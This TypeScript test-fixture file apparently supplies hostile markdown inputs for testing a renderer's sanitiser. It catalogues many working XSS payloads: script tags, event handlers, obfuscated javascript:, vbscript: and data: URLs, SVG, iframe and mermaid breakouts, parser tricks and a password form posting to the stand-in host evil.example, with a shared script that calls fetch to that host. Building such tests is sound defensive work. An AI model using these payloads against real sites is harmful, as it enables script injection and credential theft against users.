/**
 * Hostile markdown: each payload tries to run script, leave the page, load something, or hide the
 * text. `kept` is prose written around or inside the payload that a reader must still see.
 *
 * Every script payload does the same observable things — sets `window.__pwned`, logs `PWNED`,
 * opens an `alert` and fetches `https://evil.example/` — so one check catches any of them.
 */
export interface HostilePayload {
  name: string;
  markdown: string;
  /** Text that must survive, visible, in the rendered page. */
  kept: string[];
}

/** What every payload tries to run. */
export const JS = "window.__pwned=1;console.log('PWNED');alert(1);fetch('https://evil.example/x')";
/** The same, as a `javascript:` URL. */
const JS_URL = `javascript:${JS}`;
/** HTML-attribute-escaped version of JS (for payloads inside double-quoted attributes). */
const JS_ATTR = JS.replaceAll("'", '&#39;');

const payload = (name: string, markdown: string, ...kept: string[]): HostilePayload => ({
  name,
  markdown,
  kept,
});

const scriptPayloads: HostilePayload[] = [
  payload(
    'raw script',
    `Before the script.\n\n<script>${JS}</script>\n\nAfter the script.`,
    'Before the script.',
    'After the script.',
  ),
  payload('inline script inside a paragraph', `Text <script>${JS}</script> continues.`, 'continues.'),
  payload('uppercase SCRIPT', `<SCRIPT>${JS}</SCRIPT>\n\nStill here.`, 'Still here.'),
  payload(
    'script with src',
    '<script src="https://evil.example/x.js"></script>\n\nStill here.',
    'Still here.',
  ),
  payload('script split across lines', `<scr\nipt>${JS}</script>\n\nStill here.`, 'Still here.'),
  payload('nested script tags', `<scr<script>ipt>${JS}</scr</script>ipt>\n\nStill here.`, 'Still here.'),
  payload(
    'script in a table cell',
    `| a | b |\n| - | - |\n| <script>${JS}</script> | cell text |`,
    'cell text',
  ),
  payload(
    'noscript trick',
    `<noscript><p title="</noscript><img src=x onerror=${JS}>">noscript text</p></noscript>\n\nStill here.`,
    'Still here.',
  ),
];

const handlerPayloads: HostilePayload[] = [
  payload('img onerror', `<img src=x onerror="${JS_ATTR}">\n\nImage above.`, 'Image above.'),
  payload(
    'img onload with data src',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${JS_ATTR}">\n\nImage above.`,
    'Image above.',
  ),
  payload('div onmouseover', `<div onmouseover="${JS_ATTR}">Hover me</div>`, 'Hover me'),
  payload('p onclick with case tricks', `<p OnClIcK="${JS_ATTR}">Click me</p>`, 'Click me'),
  payload('unquoted handler after slash', `<p/onmouseover=alert(1)>Slash text</p>`, 'Slash text'),
  payload(
    'details ontoggle open',
    `<details open ontoggle="${JS_ATTR}"><summary>Summary text</summary>Body text</details>`,
    'Summary text',
  ),
  payload('body onload', `<body onload="${JS_ATTR}">Body text</body>`, 'Body text'),
  payload(
    'input autofocus onfocus',
    `<input autofocus onfocus="${JS_ATTR}">\n\nAfter input.`,
    'After input.',
  ),
  payload(
    'video source onerror',
    `<video><source onerror="${JS_ATTR}"></video>\n\nAfter video.`,
    'After video.',
  ),
  payload('marquee onstart', `<marquee onstart="${JS_ATTR}">Marquee text</marquee>`, 'Marquee text'),
  payload(
    'handler in markdown link title',
    `[Link text](https://example.com "a\\" onmouseover=\\"${JS}")`,
    'Link text',
  ),
  payload('handler in image alt', `![alt" onerror="${JS}](x)\n\nAfter image.`, 'After image.'),
];

/** URL schemes that run script, with the tricks browsers forgive: case, whitespace, entities, controls. */
const scriptUrls: [string, string][] = [
  ['javascript:', JS_URL],
  ['JaVaScRiPt:', `JaVaScRiPt:${JS}`],
  ['leading spaces', `   javascript:${JS}`],
  ['tab entity inside', `jav&#x09;ascript:${JS}`],
  ['newline entity inside', `jav&#x0A;ascript:${JS}`],
  ['decimal entity first letter', `&#106;avascript:${JS}`],
  ['hex entities, no semicolons', `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${JS}`],
  ['named entity colon', `javascript&colon;${JS}`],
  ['data:text/html', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data: svg', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['vbscript:', 'vbscript:msgbox(1)'],
  ['VBScript upper', 'VBSCRIPT:msgbox(1)'],
];

const urlPayloads: HostilePayload[] = scriptUrls.flatMap(([trick, url]) => [
  payload(`markdown link, ${trick}`, `[Link ${trick}](<${url}>)`, `Link ${trick}`),
  payload(`markdown image, ${trick}`, `![Image ${trick}](<${url}>)\n\nAfter the image.`, 'After the image.'),
  payload(`reference link, ${trick}`, `[Ref ${trick}][r]\n\n[r]: <${url}>`, `Ref ${trick}`),
  payload(
    `raw a href, ${trick}`,
    `<a href="${url.replaceAll('"', '&quot;')}">Raw ${trick}</a>`,
    `Raw ${trick}`,
  ),
  payload(
    `raw img src, ${trick}`,
    `<img src="${url.replaceAll('"', '&quot;')}">\n\nAfter raw image.`,
    'After raw image.',
  ),
]);

const embedPayloads: HostilePayload[] = [
  payload('svg script', `<svg><script>${JS}</script></svg>\n\nAfter svg.`, 'After svg.'),
  payload('svg onload', `<svg onload="${JS_ATTR}"><circle r="5"/></svg>\n\nAfter svg.`, 'After svg.'),
  payload(
    'svg animate href',
    `<svg><a><animate attributeName="href" values="${JS_URL}"/><text y="20">SVG link</text></a></svg>\n\nAfter svg.`,
    'After svg.',
  ),
  payload(
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>\n\nAfter svg.`,
    'After svg.',
  ),
  payload(
    'math xlink',
    `<math><maction actiontype="statusline" xlink:href="${JS_URL}">Math text</maction></math>`,
    'Math text',
  ),
  payload('iframe src', `<iframe src="${JS_URL}"></iframe>\n\nAfter iframe.`, 'After iframe.'),
  payload(
    'iframe srcdoc',
    `<iframe srcdoc="<script>${JS_ATTR}</script>"></iframe>\n\nAfter iframe.`,
    'After iframe.',
  ),
  payload(
    'object data',
    '<object data="https://evil.example/x.swf"></object>\n\nAfter object.',
    'After object.',
  ),
  payload('embed src', `<embed src="${JS_URL}">\n\nAfter embed.`, 'After embed.'),
  payload('form action', `<form action="${JS_URL}"><button>Form button</button></form>`, 'Form button'),
  payload(
    'button formaction',
    `<button formaction="${JS_URL}">Formaction button</button>`,
    'Formaction button',
  ),
  payload(
    'form posting to evil',
    '<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>\n\nAfter form.',
    'After form.',
  ),
  payload(
    'style hides the page',
    '<style>body,main,p{display:none!important}*{visibility:hidden}</style>\n\nVisible paragraph.',
    'Visible paragraph.',
  ),
  payload(
    'style attribute overlay',
    '<p style="position:fixed;inset:0;background:white;z-index:9">Overlay text</p>\n\nUnderneath text.',
    'Underneath text.',
  ),
  payload(
    'style import',
    '<style>@import url("https://evil.example/x.css");</style>\n\nAfter style.',
    'After style.',
  ),
  payload(
    'link stylesheet',
    '<link rel="stylesheet" href="https://evil.example/x.css">\n\nAfter link.',
    'After link.',
  ),
  payload(
    'meta refresh',
    `<meta http-equiv="refresh" content="0;url=${JS_URL}">\n\nAfter meta.`,
    'After meta.',
  ),
  payload(
    'meta refresh to evil',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nAfter meta.',
    'After meta.',
  ),
  payload(
    'base href',
    '<base href="https://evil.example/">\n\n[Relative link](relative)\n\n![relative image](image.png)',
    'Relative link',
  ),
  payload(
    'template with script',
    `<template><script>${JS}</script></template>\n\nAfter template.`,
    'After template.',
  ),
];

const parserTricks: HostilePayload[] = [
  payload(
    'comment hides script',
    `Before comment.\n\n<!-- --><script>${JS}</script><!-- -->\n\nAfter comment.`,
    'Before comment.',
    'After comment.',
  ),
  payload(
    'comment closed early',
    `Before.\n\n<!--><img src=x onerror="${JS_ATTR}">-->\n\nAfter.`,
    'Before.',
    'After.',
  ),
  payload('bang comment', `Before.\n\n<!--!><script>${JS}</script>-->\n\nAfter.`, 'Before.'),
  payload('CDATA in html', `Before.\n\n<![CDATA[><script>${JS}</script>]]>\n\nAfter.`, 'Before.'),
  payload('CDATA in svg', `<svg><![CDATA[ ]]><script>${JS}</script></svg>\n\nAfter svg.`, 'After svg.'),
  payload(
    'processing instruction',
    `<?xml-stylesheet href="https://evil.example/x.xsl"?>\n\n<? <script>${JS}</script> ?>\n\nAfter PI.`,
    'After PI.',
  ),
  payload(
    'unclosed tag swallowing',
    `<img src=x alt="\n\nText after an open quote.\n\n"onerror="${JS_ATTR}">`,
    '',
  ),
  payload(
    'textarea breakout',
    `<textarea></textarea><script>${JS}</script>\n\nAfter textarea.`,
    'After textarea.',
  ),
  payload('title breakout', `<title></title><script>${JS}</script>\n\nAfter title.`, 'After title.'),
  payload('xmp and plaintext', `<xmp></xmp><img src=x onerror="${JS_ATTR}">\n\nAfter xmp.`, 'After xmp.'),
  payload(
    'DOM clobbering names',
    '<img name="getElementById"><form id="__pwned"></form><a id="__pwned" name="__pwned">Clobber text</a>',
    'Clobber text',
  ),
  payload('autolink javascript', `<javascript:${JS}>\n\nAfter autolink.`, 'After autolink.'),
  payload('html in inline code stays code', `Inline \`<script>${JS}</script>\` code.`, 'Inline', '<script>'),
];

const fencePayloads: HostilePayload[] = [
  payload(
    'language breaks out of class',
    '```js" onmouseover="alert(1)\nconst fenced = 1;\n```',
    'const fenced = 1;',
  ),
  payload(
    'title closes the code element',
    '```js title="</code><script>alert(1)</script>"\nconst titled = 1;\n```',
    'const titled = 1;',
  ),
  payload(
    'title with handler',
    `\`\`\`js title="x\\" onmouseover=\\"${JS}"\nconst handled = 1;\n\`\`\``,
    'const handled = 1;',
  ),
  payload(
    'title with img',
    `\`\`\`js title="<img src=x onerror=${JS}>"\nconst imaged = 1;\n\`\`\``,
    'const imaged = 1;',
  ),
  payload('language is a path', '```../../etc/passwd\nroot:x:0:0\n```', 'root:x:0:0'),
  payload('language is html with a tag', '```<script>alert(1)</script>\nsome code\n```', 'some code'),
  payload('script inside a fence stays text', `\`\`\`html\n<script>${JS}</script>\n\`\`\``, '<script>'),
  payload(
    'mermaid with html',
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${JS}>"]-->B\n\`\`\``,
    'Diagram source',
  ),
  payload(
    'mermaid directive unlocking html labels and remote css',
    `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import url(/pwned.css); .node rect { fill: url(/pwned.svg#x) }"}}%%\ngraph TD; A["<img src=/pwned.png onerror=${JS}>"]-->B\n\`\`\``,
    'Diagram source',
  ),
  payload(
    'meta highlight garbage',
    '```js {1-3} /(a+)+$/ showLineNumbers{-5} caption="</figcaption><script>alert(1)</script>"\nconst meta = 1;\n```',
    'const meta = 1;',
  ),
  payload('inline code language', `Inline \`x{:js" onmouseover="${JS}}\` end.`, 'end.'),
];

/** Every hostile-markdown payload. */
export const hostileMarkdown: HostilePayload[] = [
  ...scriptPayloads,
  ...handlerPayloads,
  ...urlPayloads,
  ...embedPayloads,
  ...parserTricks,
  ...fencePayloads,
];
